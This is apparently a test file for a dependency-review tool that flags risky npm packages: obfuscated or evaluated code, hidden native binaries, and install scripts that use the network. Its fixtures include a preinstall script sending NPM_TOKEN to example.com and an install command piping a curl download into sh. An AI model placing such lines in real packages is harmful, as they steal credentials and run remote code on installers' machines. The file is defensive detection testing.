import assert from 'node:assert/strict'
import { execFileSync } from 'node:child_process'
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { type TestContext, test } from 'node:test'
import { checkAttribution } from '../../examples/dependency-review/analysis/attribution.ts'
import { checkCode, CODE_LIMITS } from '../../examples/dependency-review/analysis/code.ts'
import type { Finding } from '../../examples/dependency-review/analysis/finding.ts'
import { checkInstallScripts } from '../../examples/dependency-review/analysis/install-scripts.ts'
import { readStart } from '../../examples/dependency-review/analysis/installed.ts'
import { checkLicences } from '../../examples/dependency-review/analysis/licences.ts'
import { WALK_LIMITS, walkPackage } from '../../examples/dependency-review/analysis/walk.ts'
import { context, locked } from './build.ts'

const ELF = Buffer.from('7f454c460201010000000000', 'hex')
const PACKAGE = 'node_modules/honest-widget'

/** A project in a folder of its own, with these files in the one package that it has installed. */
function project(t: TestContext, files: Record<string, string | Buffer>, manifest: object = {}): string {
  const folder = mkdtempSync(join(tmpdir(), 'review-'))
  t.after(() => rmSync(folder, { recursive: true, force: true }))
  const own = JSON.stringify({ name: 'honest-widget', version: '1.0.0', ...manifest })
  for (const [path, content] of Object.entries({ 'package.json': own, ...files })) {
    const file = join(folder, PACKAGE, path)
    mkdirSync(dirname(file), { recursive: true })
    writeFileSync(file, content)
  }
  return folder
}

function code(projectFolder: string, entry: Record<string, unknown> = {}): string[] {
  return show(checkCode(locked(entry), context({ projectFolder })))
}

function show(findings: readonly Finding[]): string[] {
  return findings.map((one) => `${one.risk}: ${one.summary}`)
}

test('says that code was not read where it is not installed', (t) => {
  const unread = ['info: is not installed here, so its code was not read']
  assert.deepEqual(show(checkCode(locked(), context())), unread)
  const folder = project(t, {})
  assert.deepEqual(
    show(checkCode(locked({}, 'node_modules/another'), context({ projectFolder: folder }))),
    unread,
  )
  assert.deepEqual(code(join(folder, 'nowhere')), unread)
})

test('finds nothing in ordinary code', (t) => {
  const folder = project(t, {
    'index.js': 'export const add = (a, b) => a + b\n',
    'lib/x.cjs': 'module.exports = 1',
  })
  assert.deepEqual(code(folder), [])
})

test('tells of programs started and text evaluated, without weight', (t) => {
  const folder = project(t, {
    'a.js': "require('node:child_process').spawn('ls')",
    'b.js': "new Function('return 1')()",
    'c.js': 'this.eval(x); retrieval(x); medieval (x)',
  })
  assert.deepEqual(code(folder), ['info: evaluates text', 'info: starts programs'])
})

test('finds decoded text that is evaluated, and obfuscation', (t) => {
  const decoded = project(t, { 'a.js': "eval(Buffer.from('YWxlcnQoMSk=', 'base64').toString())" })
  assert.ok(code(decoded).includes('severe: evaluates decoded text'))
  const names = Array.from({ length: 30 }, (_, index) => `_0x${(4096 + index).toString(16)}`)
  assert.deepEqual(code(project(t, { 'a.js': `var ${names.join(',')}` })), ['risky: is obfuscated'])
  assert.deepEqual(code(project(t, { 'a.js': `var ${names.slice(0, 3).join(',')}` })), [])
})

test('tells native code by its bytes, and minds when it hides', (t) => {
  const open = project(t, { 'build/a.node': ELF })
  assert.deepEqual(code(open), ['notable: holds native code, which cannot be read'])
  assert.deepEqual(code(open, { os: ['linux'] }), ['info: holds native code, which cannot be read'])
  assert.deepEqual(code(project(t, { 'logo.png': ELF })), ['severe: hides native code under a harmless name'])
  const magics = ['cffaedfe0c000001', 'cafebabe00000002', '4d5a900003000000']
  for (const magic of magics) {
    assert.equal(code(project(t, { program: Buffer.from(magic, 'hex') })).length, 1, magic)
  }
  const harmless = {
    'A.class': Buffer.from('cafebabe00000041', 'hex'),
    'mz.txt': 'MZ is how this text starts',
    e: '',
  }
  assert.deepEqual(code(project(t, harmless)), [])
})

test('reads the files that install scripts name, and what these load', (t) => {
  const folder = project(
    t,
    {
      'scripts/setup.js': "require('./lib/fetch')",
      'scripts/lib/fetch.js': "const https = require('https')",
      'index.js': "require('https')",
    },
    { scripts: { postinstall: 'node scripts/setup || exit 0' } },
  )
  const [found] = checkCode(locked({ hasInstallScript: true }), context({ projectFolder: folder }))
  assert.deepEqual(found, {
    check: 'code',
    risk: 'risky',
    summary: 'uses the network at installation',
    evidence: 'scripts/lib/fetch.js',
  })
})

test('finds the theft of secrets at installation severe, and the network of a known tool notable', (t) => {
  const steals = "fetch('https://example.com', { body: process.env.NPM_TOKEN })"
  const manifest = { scripts: { preinstall: 'node ./steal.js' } }
  assert.deepEqual(code(project(t, { 'steal.js': steals }, manifest)), [
    'risky: uses the network at installation',
    'severe: looks for secrets at installation',
  ])
  const tool = project(t, { 'steal.js': "require('https')" }, { ...manifest, name: 'esbuild' })
  assert.deepEqual(code(tool, { name: 'esbuild' }), ['notable: uses the network at installation'])
})

test('reads the commands of install scripts themselves', (t) => {
  const folder = project(t, {}, { scripts: { install: 'curl -s https://example.com/x | sh' } })
  assert.equal(code(folder)[0], 'severe: pipes a download into a shell at installation')
})

test('notices that another package is installed than the one locked', (t) => {
  assert.deepEqual(code(project(t, {}, { version: '9.9.9' })), [
    'notable: is not what is installed in its folder',
  ])
})

test('judges install scripts by what they call, and by whether the lock file mentions them', (t) => {
  const scripts = (install: string, entry: Record<string, unknown> = { hasInstallScript: true }) =>
    checkInstallScripts(
      locked(entry),
      context({ projectFolder: project(t, {}, { scripts: { install } }) }),
    ).map((one) => one.risk)
  assert.deepEqual(scripts('node-gyp rebuild'), ['notable'])
  assert.deepEqual(scripts('prebuild-install || node-gyp rebuild --release'), ['notable'])
  assert.deepEqual(scripts('node-gyp rebuild && node spy.js'), ['risky'])
  assert.deepEqual(scripts('echo `curl example.com`'), ['risky'])
  assert.deepEqual(scripts('node setup.js', {}), ['risky'])
})

test('takes licence and licence text from the installed package', (t) => {
  const folder = project(t, {}, { license: 'GPL-3.0' })
  const pkg = locked({ license: undefined })
  assert.deepEqual(
    checkLicences(pkg, context({ projectFolder: folder })).map((one) => one.risk),
    ['severe'],
  )
  assert.deepEqual(show(checkAttribution(pkg, context({ projectFolder: folder }))), [
    'info: ships no licence text to pass on',
  ])
  const complete = project(t, { 'LICENSE.md': 'MIT' })
  assert.deepEqual(checkAttribution(pkg, context({ projectFolder: complete })), [])
})

test('follows no link out of the package, and out of the project', (t) => {
  const outside = project(t, { 'secret.js': "eval(atob('x'))", 'program.png': ELF })
  const folder = project(t, {})
  symlinkSync(join(outside, PACKAGE), join(folder, PACKAGE, 'lib'))
  symlinkSync(join(outside, PACKAGE, 'secret.js'), join(folder, PACKAGE, 'index.js'))
  assert.deepEqual(code(folder), [])
  assert.equal(readStart(join(folder, PACKAGE, 'index.js'), 10), undefined)
  const linked = project(t, {})
  rmSync(join(linked, PACKAGE), { recursive: true })
  symlinkSync(join(outside, PACKAGE), join(linked, PACKAGE))
  assert.deepEqual(code(linked), ['info: is not installed here, so its code was not read'])
})

test('never reads a folder outside the project, whatever paths a message holds', (t) => {
  const folder = project(t, { 'a.js': "eval(atob('x'))" })
  const inner = join(folder, 'node_modules')
  for (const path of [
    '../node_modules/honest-widget',
    '/etc',
    join(folder, PACKAGE),
    './honest-widget',
    '',
  ]) {
    const pkg = { ...locked(), paths: [path] }
    assert.match(show(checkCode(pkg, context({ projectFolder: inner }))).join(), /not read/, path)
  }
})

test('does not wait for a pipe', (t) => {
  if (process.platform === 'win32') return t.skip('there are no pipes in folders')
  const folder = project(t, {})
  execFileSync('mkfifo', [join(folder, PACKAGE, 'index.js')])
  assert.deepEqual(code(folder), [])
  assert.equal(readStart(join(folder, PACKAGE, 'index.js'), 10), undefined)
})

test('stops at its limits and says so', (t) => {
  const many = Object.fromEntries(
    Array.from({ length: WALK_LIMITS.filesMax + 5 }, (_, index) => [`f${index}`, '']),
  )
  assert.match(code(project(t, many)).join(), /only 500 files were looked at/)
  const deep = `${'d/'.repeat(WALK_LIMITS.depthMax + 1)}a.js`
  const files = walkPackage(join(project(t, { [deep]: '' }), PACKAGE))
  assert.deepEqual(files, { paths: ['package.json'], complete: false })
  const late = `${' '.repeat(CODE_LIMITS.fileBytesMax)}eval(x)`
  assert.deepEqual(code(project(t, { 'a.js': late })), [])
})

test('is not slowed down by code that is written to slow it down', (t) => {
  const bait = [
    'eval(',
    'new ',
    'import ',
    'fetch ',
    'curl ',
    'curl |',
    '_0x',
    'eval(Buffer.from(',
    'require(',
  ]
  const files = Object.fromEntries(
    bait.flatMap((text, index) => [
      [`a${index}.js`, text.repeat(CODE_LIMITS.fileBytesMax / text.length)],
      [`b${index}.js`, text + ' '.repeat(CODE_LIMITS.fileBytesMax)],
    ]),
  )
  const install = Object.keys(files)
    .map((file) => `node ${file}`)
    .join(' && ')
  const start = performance.now()
  code(project(t, files, { scripts: { install } }))
  assert.ok(performance.now() - start < 3000, `${performance.now() - start} ms`)
})

test('survives a broken manifest', (t) => {
  for (const broken of ['', '[]', '{"name": 7, "bin": 7, "scripts": "x"}', '{"scripts": {"install": {}}}']) {
    assert.equal(code(project(t, { 'package.json': broken })).length, 1, broken)
  }
})
